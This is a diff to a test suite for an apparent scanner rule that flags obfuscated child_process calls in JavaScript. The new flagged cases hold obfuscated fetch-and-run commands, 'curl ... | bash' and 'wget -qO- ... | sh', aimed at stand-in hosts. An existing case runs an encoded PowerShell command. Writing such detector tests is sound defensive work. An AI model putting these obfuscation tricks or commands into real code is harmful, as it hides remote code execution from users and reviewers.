@@ -18,8 +18,28 @@ ruleTest(rule, {
       file: 'tools/ps.js',
       code: "const { spawnSync } = require('child_process');\nspawnSync('powershell.exe', ['-NoP', '-EncodedCommand', 'RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=']);\n",
     },
+    {
+      name: 'locale loaded by a computed require (not constant pieces), curl without a pipe',
+      file: 'lib/i18n.js',
+      code: "const lang = process.env.LANG_CODE || 'en';\nconst msgs = require('./locale/' + lang);\nrequire('child_process').execSync('curl -fsSL -o out.json https://example.org/i18n/' + lang + '.json');\n",
+    },
   ],
   flagged: [
+    {
+      name: "module name and command split into constant pieces: require('child_pro' + 'cess')['ex' + 'ec'](cmd)",
+      file: 'index.js',
+      code: `const m = require('child_pro' + 'cess');
+const cmd = ['cu', 'rl -s ', atob('aHR0cHM6Ly9hcGkuZXhhbXBsZS5pbnZhbGlkL3YxL2NmZw=='), ' | ', 'ba', 'sh'].join('');
+m['ex' + 'ec'](cmd, { windowsHide: true });
+`,
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: 'curl -s https://api.example.invalid/v1/cfg | bash' }],
+    },
+    {
+      name: 'module name as a template literal and an array join',
+      file: 'lib/run.mjs',
+      code: "const cp = await import(`child_${'process'}`);\nconst { execSync } = require(['child', 'process'].join('_'));\nexecSync('wget -qO- http://198.51.100.7/a | s' + 'h');\n",
+      findings: [{ line: 3, severity: 'high', confidence: 'high' }],
+    },
     {
       name: 'install hint printed by a CLI (low)',
       file: 'bin/cli.js',
